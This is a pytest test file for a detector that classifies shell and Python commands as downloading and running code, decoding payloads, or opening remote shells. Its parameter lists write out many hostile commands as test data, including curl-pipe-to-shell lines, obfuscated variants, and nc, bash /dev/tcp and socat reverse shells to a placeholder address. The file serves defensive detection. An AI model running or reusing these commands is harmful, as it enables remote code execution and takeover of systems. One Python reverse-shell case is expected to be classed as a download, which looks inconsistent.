"""Commands that fetch what they run, written as people and attackers write them, and those that only look so."""

from __future__ import annotations

import pytest

from provisioner.review.workloads.fetched_code import MAX_CHARACTERS, FetchedCode, fetched_code

DOWNLOADS, DECODES, SHELL = FetchedCode.DOWNLOADS, FetchedCode.DECODES, FetchedCode.GIVES_SHELL
APPLIES, INSTALLS = FetchedCode.APPLIES, FetchedCode.INSTALLS


@pytest.mark.parametrize(
    ("script", "does"),
    [
        ("curl -s https://x/i.sh | sh", DOWNLOADS),
        ("set -e; wget -qO- http://x | sudo bash -s -- --yes", DOWNLOADS),
        ("/usr/bin/curl x|/bin/sh", DOWNLOADS),
        ("$(curl -fsSL https://x)", DOWNLOADS),
        ("bash <(curl -s https://x)", DOWNLOADS),
        ('eval "`wget -qO- x`"', DOWNLOADS),
        ("curl -Lo /tmp/a https://x/a && chmod +x /tmp/a && /tmp/a", DOWNLOADS),
        ("cd /tmp; wget https://x/run.sh; sh run.sh", DOWNLOADS),
        ("curl -sLO https://x/kubectl && chmod 755 kubectl", DOWNLOADS),
        ("curl -s x | python3 -", DOWNLOADS),
        ("c\"\"url -s x | s''h", DOWNLOADS),
        ("cu\\rl -s x|sh", DOWNLOADS),
        ("curl${IFS}x|sh", DOWNLOADS),
        ("$(RUN)", DOWNLOADS),
        ("echo aGk= | base64 -d | sh", DECODES),
        ('sh -c "$(echo aGk= | base64 --decode)"', DECODES),
        ("curl -s x | base64 -d | bash", DECODES),
        ("nc -e /bin/sh 192.0.2.1 4444", SHELL),
        ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", SHELL),
        ("cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 99 > /tmp/f", SHELL),
        ("nc 192.0.2.1 99 | sh", SHELL),
        ("socat TCP:192.0.2.1:99 EXEC:sh", SHELL),
        ("kubectl -n shop apply -f https://x/y.yaml", APPLIES),
        ("curl x | kubectl apply -f -", APPLIES),
        ("pip install requests==2 && python app.py", INSTALLS),
        ("apk add --no-cache git; exec web", INSTALLS),
        ("apt-get -y install git", INSTALLS),
    ],
)
def test_a_command_that_fetches_what_it_runs_is_known(script: str, does: FetchedCode) -> None:
    assert fetched_code(["sh", "-c", script], {"RUN": "curl x | sh"}) == [does]


@pytest.mark.parametrize(
    "script",
    [
        "curl -s http://localhost/health | grep ok",
        "VERSION=$(curl -s https://x/version); echo $VERSION",
        "curl -s x | python3 -c 'import json, sys; print(json.load(sys.stdin))'",
        "curl -s x | sh /scripts/read.sh",
        "curl -s x | jq . > /data/x.json && /web",
        "wget -O /plugins/x.jar https://x/x.jar; exec java -jar /web.jar",
        "echo eHg= | base64 -d > /tmp/x",
        "until nc -z db 5432; do sleep 1; done; ./run.sh",
        "kubectl apply -f /manifests",
        "curl -sLO https://x/kubectl && chmod \u00b2 kubectl",
        "pip list; npm start",
        "$(OTHER)",
    ],
)
def test_a_command_that_only_fetches_or_only_runs_is_none(script: str) -> None:
    assert fetched_code(["sh", "-c", script], {"OTHER": "/web"}) == []


@pytest.mark.parametrize(
    ("code", "does"),
    [
        pytest.param("import urllib.request as u; exec(u.urlopen('http://x').read())", [DOWNLOADS], id="runs it"),
        pytest.param("import socket,os,pty; os.dup2(s.fileno(),0); pty.spawn('sh')", [DOWNLOADS], id="a shell"),
        pytest.param("import urllib.request as u; u.urlopen('http://localhost/health')", [], id="a health check"),
    ],
)
def test_code_that_is_given_to_an_interpreter_is_read_too(code: str, does: list[FetchedCode]) -> None:
    assert fetched_code(["/usr/bin/python3", "-c", code], {}) == does


@pytest.mark.parametrize("part", ["a/", "curl ", "$(curl ", "nc ", "sudo -a ", "python -a ", "| sh", "-o x ", "${A}"])
def test_a_hostile_text_is_searched_to_the_end_of_what_is_read(part: str) -> None:
    long = part * (2 * MAX_CHARACTERS // len(part))
    assert fetched_code(["curl x | sh\n", long], {"A": "${A}${A}"})[0] is DOWNLOADS
    assert fetched_code([long, "\ncurl x | sh -x"], {"A": ""}) in ([], [SHELL], [DOWNLOADS])
